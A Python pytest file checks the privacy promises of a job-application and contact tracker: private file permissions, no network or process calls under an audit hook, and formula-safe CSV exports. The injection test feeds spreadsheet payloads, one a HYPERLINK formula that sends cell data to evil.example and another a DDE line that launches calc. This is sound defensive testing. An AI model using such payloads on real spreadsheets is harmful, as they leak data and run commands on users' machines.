"""Privacy: private files, no network, no formulas in exports, links opened only by the user.

The database holds other people's contact details, so:
- the database, its -wal/-shm, its backups are created 0600 in 0700 folders, whatever the umask;
- an export never hands a spreadsheet a formula;
- no command talks to the network or starts another program (checked at run time with
  an audit hook over the CLI commands and the TUI, and in the source), except the mail sync,
  which reads the user's own mailbox when asked to (one module, `io/mail/imap.py`);
- a URL from the data is opened only by an explicit user action (an `action_*` method or
  an event handler), never when a module is imported or a screen loads.
"""

from __future__ import annotations

import ast
import csv
import json
import os
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from conftest import TODAY, Cli
from tracker.store import open_store
from tracker.store.safety.backup import auto_backup, backups_dir, list_backups

PACKAGE = Path(__file__).resolve().parent.parent / "tracker"


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def open_umask() -> Iterator[None]:
    """The most permissive umask: every private mode must be set by tracker itself."""
    old = os.umask(0)
    try:
        yield
    finally:
        os.umask(old)


def test_database_wal_and_backups_are_private_whatever_the_umask(open_umask: None, isolated_dirs: Path,
                                                                   tmp_path: Path) -> None:
    db = isolated_dirs / "data" / "tracker" / "tracker.db"
    store = open_store(db, create_dirs=True)
    try:
        with store.write() as session:
            from tracker.store.models import Person

            session.add(Person(name="Prof. Kim Minsoo", role="professor", email="kim@gist.ac.kr"))
        assert _mode(db.parent) == 0o700 and _mode(db) == 0o600
        for side in ("-wal", "-shm"):
            assert _mode(db.with_name(db.name + side)) == 0o600
    finally:
        store.close()
    cli = Cli(db)
    cli.ok("backup")
    cli.ok("backup", "-o", str(tmp_path / "copy.db"))
    auto_backup(db, "import")
    assert _mode(backups_dir(db)) == 0o700
    made = list_backups(db)
    assert len(made) == 2 and all(_mode(p) == 0o600 for p in made)
    assert _mode(tmp_path / "copy.db") == 0o600
    cli.ok("restore", str(tmp_path / "copy.db"), "--yes")
    assert _mode(db) == 0o600 and all(_mode(p) == 0o600 for p in list_backups(db))
    export = tmp_path / "log.csv"
    cli.ok("export", "csv", "-o", str(export))
    leftovers = [p.name for p in db.parent.rglob("*") if p.name.startswith(".") or "partial" in p.name]
    assert leftovers == []


def test_an_export_hands_spreadsheets_no_formula(cli: Cli, tmp_path: Path) -> None:
    cli.ok("add", "person", '=HYPERLINK("http://evil.example/?"&A1,"Kim")', "--role", "professor",
           "--org", "+cmd|' /C calc'!A0", "--email", "@SUM(1+1)")
    target = tmp_path / "people.csv"
    cli.ok("export", "csv", "--what", "people", "-o", str(target))
    with target.open(encoding="utf-8", newline="") as handle:
        [row] = list(csv.DictReader(handle))
    for column in ("name", "organization", "email"):
        assert row[column].startswith("'"), row
        assert row[column][1] in "=+@"


_NO_NETWORK = r'''
import json, sys
from pathlib import Path

WATCHED = ("socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "socket.gethostbyaddr",
           "socket.sendto", "socket.sendmsg", "socket.bind", "urllib.Request", "http.client.connect",
           "smtplib.connect", "ftplib.connect", "webbrowser.open", "subprocess.Popen", "os.system",
           "os.exec", "os.posix_spawn", "os.spawn", "os.startfile", "os.fork", "os.forkpty", "pty.spawn")
events = []

def hook(event, args):
    if event in WATCHED:
        events.append([event, repr(args)[:200]])

sys.addaudithook(hook)

from typer.testing import CliRunner
from tracker.cli import app

db, work = sys.argv[1], Path(sys.argv[2])
runner = CliRunner()
commands = [
    ["demo"], ["remind"], ["remind", "--json", "--within", "30d"], ["list", "people"],
    ["list", "opportunities", "--json"], ["list", "log", "--search", "gist"], ["locate"], ["profile"],
    ["add", "person", "Dr. Network Test", "--role", "postdoc", "--org", "Example Lab",
     "--homepage", "https://example.org/~test", "--linkedin", "https://linkedin.com/in/test"],
    ["add", "opportunity", "Example Posting", "--kind", "posting", "--org", "Example Lab",
     "--url", "https://example.org/jobs/1", "--contact", "Dr. Network"],
    ["log", "email", "--to", "Dr. Network", "--subject", "hello"],
    ["move", "Example Posting", "applied"],
    ["letter", "Example Posting", "--writer", "Dr. Network", "--status", "alerted"],
    ["add", "interview", "Example Posting", "--at", "2026-12-01 14:00 KST"],
    ["add", "offer", "Example Posting", "--respond-by", "Dec 10"],
    ["add", "reminder", "check the portal", "--on", "tomorrow"],
    ["show", "Example Posting", "--json"],
    ["export", "csv", "-o", str(work / "log.csv")],
    ["export", "csv", "--what", "people", "-o", str(work / "people.csv")],
    ["backup"], ["backup", "-o", str(work / "copy.db")],
    ["restore", str(work / "copy.db"), "--yes"],
]
failed = []
for args in commands:
    result = runner.invoke(app, ["--db", db, *args])
    if result.exit_code != 0:
        failed.append([args, result.output[-300:]])
other = str(work / "other.db")
for args in (["import", "csv", str(work / "people.csv"), "--what", "people"], ["import", "csv", str(work / "log.csv")]):
    result = runner.invoke(app, ["--db", other, *args])
    if result.exit_code != 0:
        failed.append([args, result.output[-300:]])

import asyncio
from tracker.tui.app import SCREENS_IN_ORDER, TrackerApp

async def tour():
    app = TrackerApp(Path(db), watch_interval=0)
    async with app.run_test(size=(120, 40)) as pilot:
        for _ in range(50):
            await pilot.pause(0.05)
            if app.store is not None:
                break
        for number in range(1, len(SCREENS_IN_ORDER) + 1):
            await pilot.press(str(number))
            await pilot.pause(0.1)
        await pilot.press("question_mark")
        await pilot.pause(0.1)
    return len(SCREENS_IN_ORDER)

screens = asyncio.run(tour())
print(json.dumps({"events": events, "failed": failed, "commands": len(commands) + 2, "screens": screens}))
'''


def test_no_command_and_no_screen_touches_the_network_or_starts_a_program(tmp_path: Path) -> None:
    env = {**os.environ, "TRACKER_TODAY": TODAY.isoformat()}
    result = subprocess.run([sys.executable, "-c", _NO_NETWORK, str(tmp_path / "t.db"), str(tmp_path)],
                            capture_output=True, text=True, env=env, timeout=300, check=False)
    assert result.returncode == 0, result.stderr[-3000:]
    report = json.loads(result.stdout.strip().splitlines()[-1])
    assert report["failed"] == []
    assert report["events"] == []
    print(f"\n{report['commands']} commands and {report['screens']} TUI screens under an audit hook: "
          "0 network or process events")


def test_the_audit_hook_would_see_a_connection(tmp_path: Path) -> None:
    """The check above can fail: the same hook catches a connection attempt (nothing listens there)."""
    code = _NO_NETWORK.split("from typer.testing")[0] + (
        "import socket, json\n"
        "try:\n"
        "    socket.create_connection(('127.0.0.1', 9), timeout=0.2)\n"
        "except OSError:\n"
        "    pass\n"
        "print(json.dumps(events))\n"
    )
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=False)
    assert "socket.connect" in result.stdout


NETWORK_MODULES = {"socket", "ssl", "urllib", "http", "requests", "httpx", "aiohttp", "smtplib", "ftplib",
                   "telnetlib", "xmlrpc", "webbrowser", "subprocess", "pty", "imaplib", "poplib"}
HANDOFF = "cli/handoff.py"
"""The one module allowed to start another program ($EDITOR, the mail client through webbrowser),
only when the user asks for it (`tracker draft --edit/--open`, `tracker programs edit`)."""
MAIL_SYNC = "io/mail/imap.py"
"""The one module allowed to talk to a server of the user's own: their IMAP mailbox, over TLS, only
when they run `tracker mail sync` (or Sync mail in the TUI); docs/mail.md says what it reads."""
OFFLINE_SUBMODULES = {"urllib.parse"}
"""Submodules of NETWORK_MODULES that do no I/O (quoting a mailto: link)."""
EXPLICIT = ("action_", "on_click", "on_button_pressed", "_on_click")
"""Names of the methods that run only when the user does something (key binding, command, click)."""


def _sources() -> Iterator[tuple[Path, ast.Module]]:
    for path in sorted(PACKAGE.rglob("*.py")):
        yield path, ast.parse(path.read_text(encoding="utf-8"), filename=str(path))


def test_no_module_imports_network_or_process_libraries() -> None:
    found = []
    for path, tree in _sources():
        for node in ast.walk(tree):
            names: list[str] = []
            if isinstance(node, ast.Import):
                names = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom) and node.module and node.level == 0:
                names = [node.module]
            where = path.relative_to(PACKAGE).as_posix()
            allowed = OFFLINE_SUBMODULES | ({"subprocess", "webbrowser"} if where == HANDOFF else set()) \
                | ({"imaplib", "ssl", "socket"} if where == MAIL_SYNC else set())
            found += [f"{where}: {n}" for n in names if n.split(".")[0] in NETWORK_MODULES and n not in allowed]
            if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "os" \
                    and (node.attr in ("system", "popen", "startfile") or node.attr.startswith(("exec", "spawn"))):
                found.append(f"{path.relative_to(PACKAGE).as_posix()}: os.{node.attr}")
    assert found == []


def test_urls_are_opened_only_by_an_explicit_user_action() -> None:
    """`App.open_url` (or anything named open_url / open_link) may be called only from an action or a click."""
    offenders = []
    for path, tree in _sources():
        for function in [n for n in ast.walk(tree) if isinstance(n, (ast.FunctionDef, ast.AsyncFunctionDef))]:
            for node in ast.walk(function):
                if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) \
                        and node.func.attr in ("open_url", "open_link", "launch"):
                    if not function.name.startswith(EXPLICIT):
                        offenders.append(f"{path.relative_to(PACKAGE)}:{node.lineno} in {function.name}")
        top_level = [n for n in tree.body if not isinstance(n, (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef))]
        for call in [c for node in top_level for c in ast.walk(node) if isinstance(c, ast.Call)]:
            if isinstance(call.func, ast.Attribute) and call.func.attr in ("open_url", "open_link", "launch"):
                offenders.append(f"{path.relative_to(PACKAGE)}:{call.lineno} at import time")
    assert offenders == []
